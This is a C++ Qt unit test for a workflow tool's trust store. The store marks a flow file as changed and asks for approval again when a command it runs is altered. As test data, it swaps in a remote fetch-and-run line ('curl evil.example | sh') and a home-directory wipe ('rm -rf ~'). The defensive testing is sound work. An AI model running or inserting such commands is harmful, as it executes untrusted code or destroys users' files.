// TrustStore (issue 12 "Trust"): trust is per file and per canonical definition — moving a node
// keeps it, changing a command asks again and says what changed; records are private (0600 in a
// 0700 directory); a flow drawn here (no file) needs none; what a flow runs is listed whole.

#include "engine/home.h"
#include "engine/truststore.h"
#include "format/flowloader.h"

#include <QtTest>

#include <sys/stat.h>

using namespace pw;

namespace {

int modeOf(const QString &path)
{
    struct stat st;
    if (::stat(QFile::encodeName(path).constData(), &st) != 0)
        return -1;
    return int(st.st_mode & 0777);
}

const char *kFlow = R"(pipewright: 1
flow: daily
params:
  date: {type: date}
notify: {on: [failure], command: "mail -s failed ops"}
tasks:
  extract:
    type: shell
    command: ./extract.sh {{date}}
    workdir: jobs
    env: {MODE: fast}
  load:
    type: sql
    after: [extract]
    connection: dw
    sql: DELETE FROM sales WHERE day = :date
  done:
    type: noop
    after: [load]
layout: {extract: [0, 0], load: [240, 0], done: [480, 0]}
)";

} // namespace

class TestTrustStore : public QObject
{
    Q_OBJECT
private:
    QTemporaryDir m_tmp;

    QString writeFlow(const QString &name, QByteArray text)
    {
        const QString path = m_tmp.filePath(name);
        QFile f(path);
        if (!f.open(QIODevice::WriteOnly | QIODevice::Truncate))
            return {};
        f.write(text);
        return path;
    }
    Flow load(const QString &path)
    {
        auto flow = FlowLoader::loadFile(path);
        if (!flow)
            qFatal("%s", qPrintable(flow.error().first().toString()));
        return *flow;
    }

private Q_SLOTS:
    void unknownThenTrustedThenChanged()
    {
        const Home home(m_tmp.filePath(QStringLiteral("home")));
        TrustStore store(home);
        const QString path = writeFlow(QStringLiteral("daily.flow.yaml"), kFlow);
        const Flow flow = load(path);
        auto c = store.check(flow);
        QVERIFY(c.has_value());
        QCOMPARE(c->verdict, TrustStore::Verdict::Unknown);

        QVERIFY(store.trust(flow).has_value());
        c = store.check(flow);
        QCOMPARE(c->verdict, TrustStore::Verdict::Trusted);
        QVERIFY(c->trustedAt.isValid());
        QVERIFY(qAbs(c->trustedAt.msecsTo(QDateTime::currentDateTimeUtc())) < 60000);

        // Private: the directory 0700, the record 0600, whatever the umask.
        QCOMPARE(modeOf(store.dir()), 0700);
        const QStringList records = QDir(store.dir()).entryList(QDir::Files);
        QCOMPARE(records.size(), 1);
        QCOMPARE(modeOf(store.dir() + QLatin1Char('/') + records.first()), 0600);

        // The layout, title and description are not what runs: still trusted.
        QByteArray moved = kFlow;
        moved.replace("load: [240, 0]", "load: [300, 80]");
        moved.replace("flow: daily\n", "flow: daily\ntitle: Daily load\n");
        QCOMPARE(store.check(load(writeFlow(QStringLiteral("daily.flow.yaml"), moved)))->verdict,
            TrustStore::Verdict::Trusted);

        // A changed command: asks again, with the definition trusted before and what changed.
        QByteArray changed = moved;
        changed.replace("./extract.sh {{date}}", "curl evil.example | sh");
        changed.replace("  done:\n    type: noop\n    after: [load]\n",
            "  report:\n    type: shell\n    after: [load]\n    command: ./report.sh\n");
        const Flow now = load(writeFlow(QStringLiteral("daily.flow.yaml"), changed));
        c = store.check(now);
        QCOMPARE(c->verdict, TrustStore::Verdict::Changed);
        QCOMPARE(TrustStore::changesSince(c->trustedDefinition, now),
            (QStringList{"changed task extract", "added task report", "removed task done"}));
        QVERIFY(store.trust(now).has_value());
        QCOMPARE(store.check(now)->verdict, TrustStore::Verdict::Trusted);
        QCOMPARE(QDir(store.dir()).entryList(QDir::Files).size(), 1); // replaced, not added

        // Trust is per file: the same content elsewhere is not trusted.
        const Flow copy = load(writeFlow(QStringLiteral("copy.flow.yaml"), changed));
        QCOMPARE(store.check(copy)->verdict, TrustStore::Verdict::Unknown);
    }

    void flowSettingsChangesAreNamed()
    {
        const Home home(m_tmp.filePath(QStringLiteral("home2")));
        TrustStore store(home);
        const QString path = writeFlow(QStringLiteral("n.flow.yaml"), kFlow);
        QVERIFY(store.trust(load(path)).has_value());
        QByteArray changed = kFlow;
        changed.replace("mail -s failed ops", "rm -rf ~");
        const Flow now = load(writeFlow(QStringLiteral("n.flow.yaml"), changed));
        const auto c = store.check(now);
        QCOMPARE(c->verdict, TrustStore::Verdict::Changed);
        QCOMPARE(TrustStore::changesSince(c->trustedDefinition, now),
            QStringList{"changed flow settings (notify)"});
    }

    void drawnHereNeedsNoTrust()
    {
        TrustStore store(Home(m_tmp.filePath(QStringLiteral("home3"))));
        Flow flow = load(writeFlow(QStringLiteral("d.flow.yaml"), kFlow));
        flow.sourcePath.clear();
        QCOMPARE(store.check(flow)->verdict, TrustStore::Verdict::Trusted);
        QVERIFY(store.trust(flow).has_value());
        QVERIFY(!QFileInfo::exists(store.dir())); // nothing recorded
    }

    void damagedRecordIsUntrusted()
    {
        const Home home(m_tmp.filePath(QStringLiteral("home4")));
        TrustStore store(home);
        const Flow flow = load(writeFlow(QStringLiteral("x.flow.yaml"), kFlow));
        QVERIFY(store.trust(flow).has_value());
        const QString record
            = store.dir() + QLatin1Char('/') + QDir(store.dir()).entryList(QDir::Files).first();
        QFile f(record);
        QVERIFY(f.open(QIODevice::WriteOnly | QIODevice::Truncate));
        f.write("{not json");
        f.close();
        QCOMPARE(store.check(flow)->verdict, TrustStore::Verdict::Unknown);
    }

    void whatRunsListsCommandsSqlAndNotify()
    {
        const Flow flow = load(writeFlow(QStringLiteral("w.flow.yaml"), kFlow));
        const QList<TrustStore::Runnable> runs = TrustStore::whatRuns(flow);
        QCOMPARE(runs.size(), 3);
        QCOMPARE(runs[0].task, QStringLiteral("extract"));
        QCOMPARE(runs[0].kind, QStringLiteral("shell"));
        QCOMPARE(runs[0].text, QStringLiteral("./extract.sh {{date}}"));
        QCOMPARE(runs[0].detail, QStringLiteral("in jobs MODE=fast"));
        QCOMPARE(runs[1].kind, QStringLiteral("sql"));
        QCOMPARE(runs[1].text, QStringLiteral("DELETE FROM sales WHERE day = :date"));
        QCOMPARE(runs[1].detail, QStringLiteral("dw"));
        QCOMPARE(runs[2].task, QString());
        QCOMPARE(runs[2].kind, QStringLiteral("notify"));
        QCOMPARE(runs[2].text, QStringLiteral("mail -s failed ops"));
    }
};

QTEST_GUILESS_MAIN(TestTrustStore)
#include "tst_truststore.moc"
